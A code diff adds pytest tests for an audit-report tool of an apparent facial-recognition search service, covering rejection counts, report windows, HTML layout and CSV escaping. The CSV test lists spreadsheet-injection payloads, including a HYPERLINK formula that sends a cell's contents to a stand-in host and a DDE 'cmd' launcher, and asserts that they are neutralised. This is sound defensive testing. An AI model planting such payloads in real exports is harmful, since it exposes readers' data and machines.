@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 import json
 from datetime import UTC, datetime, timedelta
 from pathlib import Path
@@ -17,12 +19,14 @@ from schemas.events import (
     Invariant,
     PolicyCleared,
     PolicyDenied,
+    ProbeRejected,
     ProbeSubmitted,
     ProviderDenial,
     ProviderDispatched,
     ProviderRecord,
     PurgeReason,
     RegistryVersions,
+    RejectReason,
     RuleDenial,
 )
 from schemas.types import ImageSource, OutboundField, Purpose, Transport
@@ -182,6 +186,122 @@ def test_html_and_csv_reports_are_self_contained(store: AuditStore, tmp_path: Pa
     rows = capsys.readouterr().out.splitlines()
     assert rows[0] == "metric,value"
     assert "searches.by_provider_kind.commercial,1" in rows
+
+
+def rejected(pid: str, reason: RejectReason) -> ProbeRejected:
+    return ProbeRejected(probe_id=pid, request_id=f"r-{pid}", reason=reason, detail="x",
+                         rejected_at=T0)
+
+
+def report(directory: Path, capsys: pytest.CaptureFixture[str], *args: str) -> str:
+    capsys.readouterr()
+    assert frs(["audit", "report", "--store", str(directory), *args]) == 0
+    return capsys.readouterr().out
+
+
+FORMATS = ("text", "json", "csv", "html")
+
+
+def test_rejections_are_counted_by_reason_in_every_format(
+        store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    inv = Invariants(store, InvariantSettings(30, 60), Clock())
+    reasons = [RejectReason.TOO_BLURRED] * 2 + [RejectReason.NO_FACE] * 3 + \
+        [RejectReason.POLYGLOT]
+    feed(store, inv, [rejected(f"x{i}", r) for i, r in enumerate(reasons)])
+    store.close()
+    directory = tmp_path / "audit"
+    r = json.loads(report(directory, capsys, "--json"))
+    assert r["probes"]["rejected"] == 6
+    assert r["rejections_by_reason"] == {"no_face": 3, "too_blurred": 2, "polyglot": 1}
+    assert list(r["rejections_by_reason"]) == ["no_face", "too_blurred", "polyglot"]
+    assert "rejections by reason: no_face 3, too_blurred 2, polyglot 1" in \
+        report(directory, capsys).splitlines()
+    rows = list(csv.reader(report(directory, capsys, "--format", "csv").splitlines()))
+    assert ["rejections_by_reason.no_face", "3"] in rows
+    assert ["rejections_by_reason.too_blurred", "2"] in rows
+    assert ["rejections_by_reason.polyglot", "1"] in rows
+    page = report(directory, capsys, "--format", "html")
+    section = page.split("<h2>Rejections by reason</h2>", 1)[1].split("<h2>", 1)[0]
+    for reason, count in (("no_face", 3), ("too_blurred", 2), ("polyglot", 1)):
+        assert f"<div class=label>{reason}</div>" in section
+        assert f"<div class=value>{count}</div>" in section
+
+
+@pytest.mark.parametrize(("window", "words", "machine"), [
+    ((), "all events in the log (no window given)", (None, None)),
+    (("--from", "2026-03-01", "--to", "2026-03-02T13:00"),
+     "from 2026-03-01 00:00 UTC to 2026-03-02 13:00 UTC",
+     ("2026-03-01T00:00:00+00:00", "2026-03-02T13:00:00+00:00")),
+    (("--from", "2026-03-01T02:00:30+02:00"), "since 2026-03-01 00:00:30 UTC",
+     ("2026-03-01T00:00:30+00:00", None)),
+    (("--to", "2026-03-02"), "until 2026-03-02 00:00 UTC", (None, "2026-03-02T00:00:00+00:00")),
+])
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_every_format_says_its_window_in_words(
+        store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str], fmt: str,
+        window: tuple[str, ...], words: str, machine: tuple[str | None, str | None]) -> None:
+    inv = Invariants(store, InvariantSettings(30, 60), Clock())
+    feed(store, inv, [submitted("p1", Purpose.FINANCIAL_FRAUD)])  # at T0, inside each window
+    store.close()
+    out = report(tmp_path / "audit", capsys, "--format", fmt, *window)
+    assert words in out
+    assert "- .. -" not in out and " .. " not in out
+    if fmt == "json":
+        r = json.loads(out)
+        assert r["window"] == {"from": machine[0], "to": machine[1], "description": words}
+        assert r["probes"]["submitted"] == 1
+    if fmt == "text":
+        assert out.splitlines()[0].endswith(f"window: {words}")
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(
+        store: AuditStore, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    inv = Invariants(store, InvariantSettings(30, 60), Clock())
+    hostile = {"p-eq": '=HYPERLINK("http://x.example/?"&A1,"open")',
+               "p-plus": "+1+cmd|' /C calc'!A0", "p-minus": "-1", "p-at": "@SUM(A1:A9)",
+               "p-tab": "\t=1+1", "p-cr": "\r=1+1", "p-ok": "Plain Name",
+               "p-mid": "Acme\r=1+1"}  # a CR inside a cell must not start a row
+    events: list[Event] = [submitted("p1", Purpose.FINANCIAL_FRAUD)]
+    for pid, name in hostile.items():
+        events += [provider(pid, "commercial").model_copy(update={"name": name}),
+                   dispatched("p1", pid)]
+    # Purged before its expiry: a genuinely negative number, which must stay a number.
+    events.append(ImagePurged(probe_id="p1", vault_ref="v/p1", reason=PurgeReason.EXPIRED,
+                              expires_at=T0, purged_at=T0 - timedelta(seconds=5)))
+    feed(store, inv, events)
+    store.close()
+    out = report(tmp_path / "audit", capsys, "--format", "csv")
+    rows = dict(csv.reader(io.StringIO(out, newline="")))  # a quoted cell may hold a CR
+    for pid, name in hostile.items():
+        cell = rows[f"searches.by_provider[{pid}].name"]
+        assert cell == (name if pid in ("p-ok", "p-mid") else "'" + name)
+    assert rows["purge_timeliness.max_late_s"] == "-5.0"
+    for metric, value in rows.items():
+        for cell in (metric, value):
+            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+            assert not cell.startswith("-") or cell == "-5.0", cell
+
+
+def test_html_lays_out_long_labels_whole(store: AuditStore, tmp_path: Path,
+                                         capsys: pytest.CaptureFixture[str]) -> None:
+    inv = Invariants(store, InvariantSettings(30, 60), Clock())
+    name = ("Northern Virginia Regional Multi-Jurisdictional Biometric Identification and "
+            "Facial Comparison Consortium Services LLC & Partners")
+    name = (name * 2)[:120]
+    pid = "long-" + "x" * 120  # no space to break at
+    feed(store, inv, [provider(pid, "commercial").model_copy(update={"name": name}),
+                      submitted("p1", Purpose.HUMAN_TRAFFICKING), dispatched("p1", pid),
+                      rejected("x1", RejectReason.NOT_ATTESTED_UNEDITED)])
+    store.close()
+    page = report(tmp_path / "audit", capsys, "--format", "html")
+    label = f"<div class=label>{pid} {name.replace('&', '&amp;')} (commercial)</div>"
+    assert label in page
+    assert "<div class=label>not_attested_unedited</div>" in page
+    # Labels are HTML in a grid column that sizes to them and wraps: SVG text cannot.
+    assert "<text" not in page
+    assert "grid-template-columns: fit-content(" in page
+    assert ".bars .label { text-align: right; overflow-wrap: anywhere; }" in page
+    assert "overflow: hidden" not in page and "text-overflow" not in page
 
 
 def test_a_handler_failing_halfway_leaves_no_trace_and_the_retry_succeeds(
